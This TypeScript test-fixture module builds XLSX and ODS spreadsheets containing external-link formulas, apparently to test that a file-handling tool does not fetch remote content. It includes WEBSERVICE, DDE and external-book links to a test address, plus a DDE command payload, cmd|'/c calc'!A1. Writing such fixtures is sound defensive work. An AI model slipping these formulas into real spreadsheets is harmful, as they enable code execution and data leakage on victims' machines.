import { ODS, XLSX } from '@creatorr/tool-kit/files/media-types';
import { odf } from '@creatorr/tools/testing/builders/odf';
import { relationsXml, xlsx } from '@creatorr/tools/testing/builders/ooxml';
import type { SecretFile } from '../../world.ts';
import { ADDRESS, external, type LinkTable, linkTable } from './link-table.ts';

const xlsxFormulas = (formulas: Readonly<Record<string, string>>) =>
	linkTable(XLSX, 'text', formulas, (cells) =>
		xlsx({ body: `<row r="2">${cells}</row>`, workbook: '<calcPr fullCalcOnLoad="1"/>' }),
	);

const odsCell = (kind: SecretFile, cells: Readonly<Record<string, string>>) =>
	linkTable(ODS, kind, cells, (cell) =>
		odf('spreadsheet', { body: `<table:table-row>${cell}</table:table-row>` }),
	);

function xlsxWithBook(address: string): Buffer {
	const part = 'externalLinks/externalLink1.xml';
	return xlsx({
		body: '<row r="2"><c r="A2"><f>[1]One!$A$1</f></c><c r="B2"><f>[1]One!$A$2</f></c></row>',
		workbook:
			'<externalReferences><externalReference r:id="rId5"/></externalReferences><calcPr fullCalcOnLoad="1"/>',
		workbookRelations: [{ id: 'rId5', type: 'externalLink', target: part }],
		types: `<Override PartName="/xl/${part}" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>`,
		extra: [
			{
				name: `xl/${part}`,
				content:
					'<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId9"><sheetNames><sheetName val="One"/></sheetNames></externalBook></externalLink>',
			},
			{
				name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
				content: relationsXml(external('externalLinkPath', address)),
			},
		],
	});
}

/** Links of xlsx and ods. */
export const SHEETS: readonly LinkTable[] = [
	{ mimeType: XLSX, kind: 'ods', documents: { 'another book of an xlsx': xlsxWithBook } },
	xlsxFormulas({
		'a web function of an xlsx': `<c r="A2"><f>_xlfn.WEBSERVICE("${ADDRESS}")</f></c>`,
		'a dynamic link of an xlsx': `<c r="A2"><f>DDE("soffice","${ADDRESS}","A1")</f></c><c r="B2"><f>cmd|'/c calc'!A1</f></c>`,
	}),
	odsCell('ods', {
		'a reference of an ods': `<table:table-cell table:formula="of:=['${ADDRESS}'#$One.A1]&amp;['${ADDRESS}'#$One.A2]"/>`,
	}),
	odsCell('text', {
		'a web function of an ods': `<table:table-cell table:formula="of:=WEBSERVICE(&quot;${ADDRESS}&quot;)"/>`,
		'a dynamic link of an ods': `<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;${ADDRESS}&quot;;&quot;A1&quot;)"/>`,
	}),
	odsCell('html', {
		'a range of an ods': `<table:table-cell><table:cell-range-source table:name="HTML_all" table:last-column-spanned="2" table:last-row-spanned="2" xlink:type="simple" xlink:href="${ADDRESS}" table:filter-name="calc_HTML_WebQuery" table:refresh-delay="PT1S"/></table:table-cell>`,
	}),
	linkTable(
		ODS,
		'csv',
		{
			'a sheet of an ods': `<table:table-source xlink:type="simple" xlink:href="${ADDRESS}" table:filter-name="Text - txt - csv (StarCalc)" table:filter-options="44,34,76"/>`,
		},
		(source) =>
			odf('spreadsheet', {
				body: `</table:table><table:table table:name="Two">${source}<table:table-row><table:table-cell/></table:table-row>`,
			}),
	),
];
